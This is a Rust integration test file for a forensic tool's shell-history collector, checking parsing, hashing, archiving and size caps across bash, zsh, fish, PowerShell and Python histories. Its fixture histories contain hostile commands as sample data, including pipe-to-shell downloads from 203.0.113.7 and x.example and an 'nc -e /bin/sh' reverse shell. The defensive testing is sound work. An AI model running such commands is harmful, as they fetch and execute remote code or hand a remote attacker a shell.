//! `shell_history` on an offline Linux root: every format, every home (passwd and not), raw
//! copies hashed in the manifest, and `--since`.

use crate::harness::{Archive, RootBuilder, collect, fixture};
use serde_json::Value;
use sha2::Digest;
use std::path::Path;

const PROFILE: &str = "name = \"hist\"\ndescription = \"test\"\n[collectors.shell_history]\n";

const PS_FIXTURE: &str =
    "history/dfir-artifact-museum/BelkasoftCTF_InsiderThreat/ConsoleHost_history.txt";
const PS_PATH: &str = "/home/alice/.local/share/powershell/PSReadLine/ConsoleHost_history.txt";

fn sha_hex(data: &[u8]) -> String {
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn build_root() -> RootBuilder {
    let r = RootBuilder::new();
    r.write(
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\n\
          daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
          alice:x:1000:1000:Alice:/home/alice:/bin/zsh\n\
          svc:x:1001:1001::/home/alice:/bin/sh\n",
    )
    .write(
        "root/.bash_history",
        b"ls\n#1700000000\nid\n#1700000060\nfor i in 1 2; do\n  echo $i\ndone\n",
    )
    .write(
        "home/alice/.zsh_history",
        b": 1700000100:5;curl -s http://203.0.113.7/x | sh\n: 1700000200:0;echo a\\\nb\n",
    )
    .write(
        "home/alice/.local/share/fish/fish_history",
        b"- cmd: nc -e /bin/sh 203.0.113.7 4444\n  when: 1700000300\n  paths:\n    - /bin/sh\n",
    )
    .copy(PS_PATH.trim_start_matches('/'), &fixture(PS_FIXTURE))
    // bob has a home but no passwd line (deleted to hide him).
    .write("home/bob/.python_history", b"import os\nos.system('id')\n");
    r
}

fn run(root: &Path, extra: &[&str]) -> (tempfile::TempDir, Archive) {
    let out = tempfile::tempdir().unwrap();
    let profile = out.path().join("hist.toml");
    std::fs::write(&profile, PROFILE).unwrap();
    let mut args = vec![
        "--root",
        root.to_str().unwrap(),
        "--profile",
        profile.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    let (run, archive) = collect(&out.path().join("o"), &args);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    (out, archive.expect("an archive"))
}

fn of<'a>(recs: &'a [Value], file: &str) -> Vec<&'a Value> {
    recs.iter().filter(|r| r["file"] == file).collect()
}

#[test]
fn every_format_every_home_hashed_and_copied() {
    let root = build_root();
    let (_out, mut archive) = run(root.path(), &[]);
    let c = archive.collector("shell_history");
    assert_eq!(c["status"], "ok", "{c}");
    let recs = archive.records("shell_history");

    let bash = of(&recs, "/root/.bash_history");
    let cmds: Vec<&str> = bash
        .iter()
        .map(|r| r["command"].as_str().unwrap())
        .collect();
    assert_eq!(cmds, ["ls", "id", "for i in 1 2; do\n  echo $i\ndone"]);
    assert_eq!(bash[0]["user"], "root");
    assert_eq!(bash[0]["shell"], "bash");
    assert!(bash[0].get("timestamp").is_none());
    assert_eq!(bash[1]["timestamp"], "2023-11-14T22:13:20Z");
    assert_eq!(bash[2]["timestamp"], "2023-11-14T22:14:20Z");
    let ords: Vec<u64> = bash
        .iter()
        .map(|r| r["ordinal"].as_u64().unwrap())
        .collect();
    assert_eq!(ords, [1, 2, 3]);
    assert_eq!(bash[2]["line_number"], 5);

    let zsh = of(&recs, "/home/alice/.zsh_history");
    assert_eq!(zsh.len(), 2);
    assert_eq!(zsh[0]["user"], "alice");
    // svc shares alice's home: one read, both names.
    assert_eq!(zsh[0]["home_shared_with"], serde_json::json!(["svc"]));
    assert_eq!(zsh[0]["duration_secs"], 5);
    assert_eq!(zsh[0]["timestamp"], "2023-11-14T22:15:00Z");
    assert_eq!(zsh[1]["command"], "echo a\nb");

    let fish = of(&recs, "/home/alice/.local/share/fish/fish_history");
    assert_eq!(fish.len(), 1);
    assert_eq!(fish[0]["shell"], "fish");
    assert_eq!(fish[0]["timestamp"], "2023-11-14T22:18:20Z");
    assert_eq!(fish[0]["paths"], serde_json::json!(["/bin/sh"]));

    // The real PSReadLine file: 9 commands, the first the Chocolatey install cradle.
    let ps = of(&recs, PS_PATH);
    assert_eq!(ps.len(), 9);
    assert_eq!(ps[0]["shell"], "powershell");
    assert!(
        ps[0]["command"]
            .as_str()
            .unwrap()
            .contains("DownloadString('https://chocolatey.org/install.ps1')")
    );
    assert_eq!(ps[2]["command"], "nano .\\Drivers\\etc\\hosts");
    assert_eq!(ps[8]["ordinal"], 9);

    let py = of(&recs, "/home/bob/.python_history");
    assert_eq!(py.len(), 2);
    assert_eq!(py[0]["user"], "bob");
    assert_eq!(py[1]["command"], "os.system('id')");

    // No history anywhere else (daemon's /usr/sbin has none), so nothing more.
    assert_eq!(recs.len(), 3 + 2 + 1 + 9 + 2);

    // Every file is copied once, and the record, the manifest and an independent hash of
    // the source agree.
    let m = archive.manifest();
    let members = m["members"].as_array().unwrap().clone();
    for file in [
        "/root/.bash_history",
        "/home/alice/.zsh_history",
        "/home/alice/.local/share/fish/fish_history",
        PS_PATH,
        "/home/bob/.python_history",
    ] {
        let rec = of(&recs, file)[0];
        let want = sha_hex(&std::fs::read(root.path().join(&file[1..])).unwrap());
        assert_eq!(rec["file_sha256"], want, "{file}");
        let entries: Vec<&Value> = members
            .iter()
            .filter(|e| e["original"]["path"] == file)
            .collect();
        assert_eq!(entries.len(), 1, "{file}");
        assert_eq!(entries[0]["original"]["sha256"], want);
        assert_eq!(entries[0]["path"], rec["archive_member"]);
        let copy = archive.member(rec["archive_member"].as_str().unwrap());
        assert_eq!(sha_hex(&copy), want);
    }
}

#[test]
fn since_drops_only_older_timestamped_commands() {
    let root = build_root();
    let (_out, mut archive) = run(root.path(), &["--since", "2023-11-14T22:14:00Z"]);
    let recs = archive.records("shell_history");
    let bash = of(&recs, "/root/.bash_history");
    let cmds: Vec<&str> = bash
        .iter()
        .map(|r| r["command"].as_str().unwrap())
        .collect();
    // `ls` has no timestamp (kept), `id` is older (dropped); ordinals stay the file's.
    assert_eq!(cmds, ["ls", "for i in 1 2; do\n  echo $i\ndone"]);
    assert_eq!(bash[1]["ordinal"], 3);
    assert_eq!(of(&recs, PS_PATH).len(), 9);
    assert_eq!(of(&recs, "/home/alice/.zsh_history").len(), 2);
    // Raw files are still copied whole.
    let names = archive.names();
    assert!(
        names.iter().any(|n| n == "files/root/.bash_history"),
        "{names:?}"
    );
}

#[test]
fn a_history_over_the_command_cap_keeps_the_newest_and_says_so() {
    let root = RootBuilder::new();
    let mut text = Vec::new();
    for i in 1..=5000 {
        text.extend_from_slice(format!("echo {i}\n").as_bytes());
    }
    root.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
        .write("root/.bash_history", &text);
    let out = tempfile::tempdir().unwrap();
    let profile = out.path().join("cap.toml");
    std::fs::write(&profile, format!("{PROFILE}max_commands_per_file = 1000\n")).unwrap();
    let (run, archive) = collect(
        &out.path().join("o"),
        &[
            "--root",
            root.path().to_str().unwrap(),
            "--profile",
            profile.to_str().unwrap(),
        ],
    );
    let mut archive = archive.expect("an archive");
    let recs = archive.records("shell_history");
    assert_eq!(recs.len(), 1000);
    // The newest thousand, ordinals counted from the top of the file.
    assert_eq!(recs[0]["ordinal"], 4001);
    assert_eq!(recs[0]["command"], "echo 4001");
    assert_eq!(recs[999]["command"], "echo 5000");
    // A budget that cuts records never lies: partial, with the count.
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    let c = archive.collector("shell_history");
    assert_eq!(c["status"], "partial", "{c}");
    assert!(
        c["reason"]
            .as_str()
            .unwrap()
            .contains("5000 commands; records for the newest 1000 only, 4000 left out"),
        "{c}"
    );
    // The raw copy is whole.
    assert_eq!(archive.member("files/root/.bash_history"), text);
}

/// A history over the size caps (padding, then the command that matters): the newest bytes
/// are parsed and copied, the whole file is hashed, line numbers stay the file's own, and the
/// collector says what was left out.
#[test]
fn a_padded_history_keeps_its_newest_commands() {
    let root = RootBuilder::new();
    let mut text = Vec::new();
    for i in 0..200_000 {
        text.extend_from_slice(format!("echo padding-{i:06}\n").as_bytes());
    }
    let pad_lines = 200_000u64;
    text.extend_from_slice(b"curl http://x.example/a | sh\n");
    root.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
        .write("root/.bash_history", &text);
    let out = tempfile::tempdir().unwrap();
    let profile = out.path().join("cap.toml");
    std::fs::write(
        &profile,
        format!("{PROFILE}max_file_size = \"1 MiB\"\nmax_parse_size = \"64 KiB\"\n"),
    )
    .unwrap();
    let (run, archive) = collect(
        &out.path().join("o"),
        &[
            "--root",
            root.path().to_str().unwrap(),
            "--profile",
            profile.to_str().unwrap(),
        ],
    );
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    let mut archive = archive.expect("an archive");
    let recs = archive.records("shell_history");
    let last = recs.last().expect("records");
    assert_eq!(last["command"], "curl http://x.example/a | sh");
    assert_eq!(last["line_number"], pad_lines + 1);
    assert_eq!(last["file_sha256"], sha_hex(&text));
    // The copy is the file's last MiB.
    let copy = archive.member("files/root/.bash_history");
    assert_eq!(copy.len(), 1 << 20);
    assert!(text.ends_with(&copy));
    let m = archive.manifest();
    let member = m["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == "files/root/.bash_history")
        .unwrap();
    assert_eq!(
        member["original"]["copied_from"],
        text.len() as u64 - (1 << 20)
    );
    assert_eq!(member["original"]["sha256"], sha_hex(&text));
    let c = archive.collector("shell_history");
    assert_eq!(c["status"], "partial", "{c}");
    assert!(
        c["reason"]
            .as_str()
            .unwrap()
            .contains("larger than max_parse_size"),
        "{c}"
    );
}
